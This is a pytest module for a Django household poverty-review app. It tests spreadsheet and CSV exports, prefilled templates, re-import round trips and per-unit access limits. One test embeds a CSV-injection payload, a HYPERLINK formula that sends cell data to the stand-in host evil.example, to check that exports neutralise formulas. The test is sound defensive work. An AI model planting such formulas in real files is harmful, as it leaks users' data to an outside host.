"""Downloads in the template's columns: the empty and pre-filled template, and the filtered list,
which re-imports unchanged, never carries a live formula, and never another unit's household."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from households.importer import import_reviews
from households.models import Review
from households.template import COLUMN_KEYS, COLUMNS
from tests.builders import csv_bytes, review_row
from tests.factories import CommuneFactory, Unit

pytestmark = pytest.mark.django_db

LABELS = [column.label for column in COLUMNS]


@pytest.fixture
def unit():
    unit = Unit("a")
    rows = [
        review_row("H1", unit.commune, income=1_500_000, deprivations=3, village="Thôn Đông"),  # poor
        review_row("H2", unit.commune, income=1_500_000, deprivations=2, head_sex="Nữ", meritorious=1),  # near-poor
        review_row("H3", unit.other_commune, income=9_000_000, deprivations=0, b1_score="12.5", review_date=""),
        review_row("H1", unit.commune, year=2022, income=1_000_000, deprivations=5),
    ]
    # Seeded as the import command does (the codes predate households.codes' namespace).
    import_reviews(io.BytesIO(csv_bytes(rows)), filename="seed.csv")
    return unit


def sheet_rows(content: bytes) -> list[list]:
    workbook = load_workbook(io.BytesIO(content), read_only=True)
    # Trailing empty cells are not stored: pad to the template's width.
    return [list(r) + [None] * (len(LABELS) - len(r)) for r in workbook.worksheets[0].iter_rows(values_only=True)]


def csv_rows(content: bytes) -> list[list]:
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, so Excel shows Vietnamese"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_export_re_imports_unchanged(unit, fmt):
    response = unit.client().get(reverse(f"households:export_{fmt}"))
    assert response.status_code == 200 and f".{fmt}" in response["Content-Disposition"]
    before = list(Review.objects.order_by("pk").values())
    result = import_reviews(io.BytesIO(response.content), filename=f"export.{fmt}", user=unit.officer)
    assert result.rows == 3 and result.reviews_unchanged == 3
    assert not result.changed, result.as_dict()
    assert list(Review.objects.order_by("pk").values()) == before


def test_the_export_has_the_templates_columns_and_each_households_latest_review(unit):
    rows = sheet_rows(unit.client().get(reverse("households:export_xlsx")).content)
    assert rows[0] == LABELS
    by_code = {r[0]: dict(zip(LABELS, r, strict=True)) for r in rows[1:]}
    assert set(by_code) == {"H1", "H2", "H3"}
    assert by_code["H1"]["Năm rà soát"] == 2023 and by_code["H1"]["Thôn/Tổ dân phố"] == "Thôn Đông"
    assert by_code["H2"]["Giới tính chủ hộ (Nam/Nữ)"] == "Nữ" and by_code["H2"]["Hộ có người có công (0/1)"] == 1


def test_the_export_follows_the_lists_filters(unit):
    client = unit.client()
    rows = csv_rows(client.get(reverse("households:export_csv"), {"poverty_class": "poor", "year": 2023}).content)
    assert [r[0] for r in rows[1:]] == ["H1"]
    rows = csv_rows(client.get(reverse("households:export_csv"), {"year": 2022}).content)
    assert [(r[0], r[LABELS.index("Năm rà soát")]) for r in rows[1:]] == [("H1", "2022")]
    rows = csv_rows(client.get(reverse("households:export_csv"), {"commune": unit.other_commune.pk}).content)
    assert [r[0] for r in rows[1:]] == ["H3"]


def test_spreadsheet_formulas_are_neutralised_in_exports(unit):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    stream = io.StringIO()
    writer = csv.writer(stream)
    writer.writerow(COLUMN_KEYS)
    values = review_row(unit.code("H9"), unit.commune, head_name=evil, village="@SUM(1+1)")
    writer.writerow([values.get(key, "") for key in COLUMN_KEYS])
    import_reviews(io.BytesIO(stream.getvalue().encode()), filename="evil.csv", user=unit.officer)
    assert Review.objects.filter(household__head_name=evil).exists()
    client = unit.client()
    xlsx = {r[0]: r for r in sheet_rows(client.get(reverse("households:export_xlsx")).content)}
    assert xlsx[unit.code("H9")][LABELS.index("Họ tên chủ hộ")] == "'" + evil
    assert xlsx[unit.code("H9")][LABELS.index("Thôn/Tổ dân phố")] == "'@SUM(1+1)"
    text = {r[0]: r for r in csv_rows(client.get(reverse("households:export_csv")).content)}
    assert text[unit.code("H9")][LABELS.index("Họ tên chủ hộ")] == "'" + evil
    prefilled = client.get(reverse("households:template"), {"prefill": 1, "year": 2024}).content
    prefilled = {r[0]: r for r in sheet_rows(prefilled)}
    assert prefilled[unit.code("H9")][LABELS.index("Họ tên chủ hộ")] == "'" + evil


def test_an_officer_exports_only_the_households_of_their_unit(unit):
    other = Unit("b")
    import_reviews(
        io.BytesIO(csv_bytes([review_row(other.code("FOREIGN"), other.commune)])), filename="b.csv", user=other.officer
    )
    client = unit.client()
    for name in ("households:export_xlsx", "households:export_csv"):
        assert b"FOREIGN" not in client.get(reverse(name)).content
        assert b"FOREIGN" not in client.get(reverse(name), {"commune": other.commune.pk}).content
    prefilled = client.get(reverse("households:template"), {"prefill": 1, "year": 2024, "format": "csv"})
    assert b"FOREIGN" not in prefilled.content
    commune_rows = csv_rows(unit.client(unit.commune_officer).get(reverse("households:export_csv")).content)
    assert {r[0] for r in commune_rows[1:]} == {"H1", "H2"}


def test_the_empty_template_has_the_header_and_the_guide(unit):
    response = unit.client().get(reverse("households:template"))
    workbook = load_workbook(io.BytesIO(response.content), read_only=True)
    assert [ws.title for ws in workbook.worksheets] == ["Rà soát", "Hướng dẫn", "Mã đơn vị"]
    assert sheet_rows(response.content) == [LABELS]
    assert csv_rows(unit.client().get(reverse("households:template"), {"format": "csv"}).content) == [LABELS]


def test_the_prefilled_template_carries_the_households_forward_and_only_edited_rows_become_next_years_review(unit):
    CommuneFactory()  # a commune of another district, with nothing in it
    response = unit.client().get(reverse("households:template"), {"prefill": 1, "year": 2024})
    rows = sheet_rows(response.content)
    by_code = {r[0]: dict(zip(LABELS, r, strict=True)) for r in rows[1:]}
    assert set(by_code) == {"H1", "H2", "H3"}
    assert {r["Năm rà soát"] for r in by_code.values()} == {2024}
    assert {r["Số liệu của năm"] for r in by_code.values()} == {2023}
    assert by_code["H1"]["Thu nhập bình quân (đồng/người/tháng)"] == 1_500_000  # from the 2023 review
    assert by_code["H1"]["Ngày rà soát (dd/mm/yyyy)"] is None
    # Sent back as it came: nobody was reviewed in 2024 yet, so nothing is written.
    result = import_reviews(io.BytesIO(response.content), filename="next.xlsx", user=unit.officer)
    assert not result.changed and result.rows_carried_unchanged == 3 and result.reviews_created == 0
    assert result.as_dict()["notes"] == ["3 hộ chưa rà soát năm 2024: số liệu chép từ năm 2023 chưa sửa, không ghi."]
    # One household reviewed (its income edited): that row, and only that one, is its 2024 review.
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.worksheets[0]
    income = LABELS.index("Thu nhập bình quân (đồng/người/tháng)") + 1
    for cells in sheet.iter_rows(min_row=2):
        if cells[0].value == "H1":
            sheet.cell(row=cells[0].row, column=income, value=9_000_000)
    edited = io.BytesIO()
    workbook.save(edited)
    result = import_reviews(io.BytesIO(edited.getvalue()), filename="next.xlsx", user=unit.officer)
    assert (result.reviews_created, result.rows_carried_unchanged, result.years) == (1, 2, {2024})
    assert Review.objects.get(household__code="H1", year=2024).poverty_class == "above_average"


def test_a_household_without_any_review_is_prefilled_with_its_identity(unit):
    from tests.factories import HouseholdFactory

    HouseholdFactory(code="NEW1", commune=unit.commune, head_name="Trần Thị Mới")
    rows = csv_rows(
        unit.client().get(reverse("households:template"), {"prefill": 1, "year": 2024, "format": "csv"}).content
    )
    new = dict(zip(LABELS, next(r for r in rows if r[0] == "NEW1"), strict=True))
    assert new["Họ tên chủ hộ"] == "Trần Thị Mới" and new["Năm rà soát"] == "2024"
    assert new["Thu nhập bình quân (đồng/người/tháng)"] == ""


def test_an_unchanged_export_of_an_approved_year_uploads_as_nothing_to_change(unit):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from households.models import ImportJob, JobStatus, ReviewState

    Review.objects.update(state=ReviewState.APPROVED)
    before = list(Review.objects.order_by("pk").values())
    client = unit.client(unit.commune_officer)
    exported = client.get(reverse("households:export_csv"), {"year": 2023}).content
    client.post(reverse("households:import"), {"file": SimpleUploadedFile("export.csv", exported)})
    job = ImportJob.objects.latest("pk")
    assert job.status == JobStatus.SUCCEEDED, job.errors
    assert job.preview["reviews_unchanged"] == 2 and job.preview["reviews_updated"] == 0
    assert list(Review.objects.order_by("pk").values()) == before  # still approved


def test_a_changed_row_of_an_approved_year_is_still_refused(unit):
    from households.importer import ImportRefused
    from households.models import ReviewState

    Review.objects.update(state=ReviewState.APPROVED)
    rows = [review_row("H1", unit.commune, income=1_900_000, deprivations=3, village="Thôn Đông")]
    with pytest.raises(ImportRefused) as refused:
        import_reviews(io.BytesIO(csv_bytes(rows)), filename="a.csv", user=unit.commune_officer)
    assert "đã được phê duyệt" in str(refused.value.errors[0])


def test_a_file_from_the_command_line_sets_the_state_of_rows_it_repeats(unit):
    from households.models import ReviewState

    exported = unit.client().get(reverse("households:export_csv"), {"year": 2023}).content
    import_reviews(io.BytesIO(exported), filename="export.csv", state=ReviewState.APPROVED)
    assert set(Review.objects.filter(year=2023).values_list("state", flat=True)) == {ReviewState.APPROVED}


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_name_that_looks_like_a_formula_survives_the_round_trip(unit, fmt):
    rows = [review_row(unit.code("H7"), unit.commune, head_name="-Nguyễn Văn A", village="+Thôn 3")]
    import_reviews(io.BytesIO(csv_bytes(rows)), filename="a.csv", user=unit.officer)
    exported = unit.client().get(reverse(f"households:export_{fmt}")).content
    result = import_reviews(io.BytesIO(exported), filename=f"export.{fmt}", user=unit.officer)
    assert not result.changed, result.as_dict()
    household = Review.objects.get(household__code=unit.code("H7")).household
    assert (household.head_name, household.village) == ("-Nguyễn Văn A", "+Thôn 3")


def test_the_api_csv_and_the_pages_use_one_cell_rule():
    from povertyplan.cells import safe_cell, unquote_cell
    from reports.api import _cell

    for value in ["=1+1", "-Nguyễn", "@x", "+84", "-12.5", "Bình thường", "\tx"]:
        assert _cell(value) == safe_cell(value)
        assert unquote_cell(safe_cell(value)) == value
    assert safe_cell("-12.5") == "-12.5" and safe_cell(-3) == -3


def test_the_template_helps_the_officer_frozen_header_drop_downs_and_wide_columns(unit):
    from openpyxl import load_workbook as load

    content = unit.client().get(reverse("households:template")).content
    sheet = load(io.BytesIO(content)).worksheets[0]  # not read-only: validations and widths are read
    assert sheet.freeze_panes == "A2"
    lists = {v.formula1: str(v.sqref) for v in sheet.data_validations.dataValidation}
    assert '"Nam,Nữ"' in lists and '"0,1"' in lists
    assert "E2:E20000" in lists['"Nam,Nữ"']  # Giới tính chủ hộ
    assert sheet.column_dimensions["D"].width >= len("Họ tên chủ hộ")
    assert [ws.title for ws in load(io.BytesIO(content)).worksheets][1] == "Hướng dẫn"
